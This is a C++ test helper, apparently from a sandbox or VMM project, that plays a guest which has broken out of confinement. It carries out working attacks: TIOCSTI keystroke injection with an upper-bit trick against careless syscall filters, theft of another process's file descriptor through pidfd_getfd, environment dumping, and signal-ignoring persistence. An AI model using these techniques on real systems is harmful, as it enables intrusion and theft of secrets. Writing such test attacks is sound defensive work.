// SPDX-License-Identifier: MIT
// Attacks by a guest that broke out of its VMM. tests/unit/examples/unprivileged.sh runs this in
// the example.
#include "attacks.h"

#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string_view>

int inject() {
  for (const char letter : std::string_view("injected\n")) {
    // The kernel ignores the upper half; a careless filter compares it.
    for (const unsigned long request : {uint64_t{TIOCSTI}, uint64_t{TIOCSTI} | uint64_t{1} << 32}) {
      if (::syscall(SYS_ioctl, STDIN_FILENO, request, &letter) == 0) break;
      std::printf("TIOCSTI: %s\n", std::strerror(errno));
      if (request != TIOCSTI) return 1;
    }
  }
  return 0;
}

int take(pid_t victim) {
  const auto process = static_cast<int>(::syscall(SYS_pidfd_open, victim, 0));
  const auto taken = process < 0 ? -1 : static_cast<int>(::syscall(SYS_pidfd_getfd, process, 3, 0));
  if (taken < 0) {
    std::printf("descriptor 3 of %d: %s\n", victim, std::strerror(errno));
    return 1;
  }
  std::printf("took descriptor 3 of %d\n", victim);
  return 0;
}

int print_environment() {
  for (char** each = environ; *each != nullptr; ++each) std::puts(*each);
  return 0;
}

int outlive() {
  for (const int signal : {SIGHUP, SIGINT, SIGQUIT, SIGTERM}) std::signal(signal, SIG_IGN);
  if (::fork() > 0) {
    std::puts("ready");
    std::fflush(stdout);
  }
  for (;;) ::pause();
}

int main(int argc, char** argv) {
  const std::string_view attack = argc < 2 ? "" : argv[1];
  if (attack == "inject") return inject();
  if (attack == "take" && argc > 2) return take(std::atoi(argv[2]));
  if (attack == "environment") return print_environment();
  if (attack == "outlive") return outlive();
  if (attack == "calls") return make_refused_calls();
  if (attack == "terminal" && argc > 2) return run_on_terminal(argv + 2);
  std::fputs(
      "usage: attacks inject | take PID | environment | outlive | calls | terminal COMMAND...\n",
      stderr);
  return 2;
}
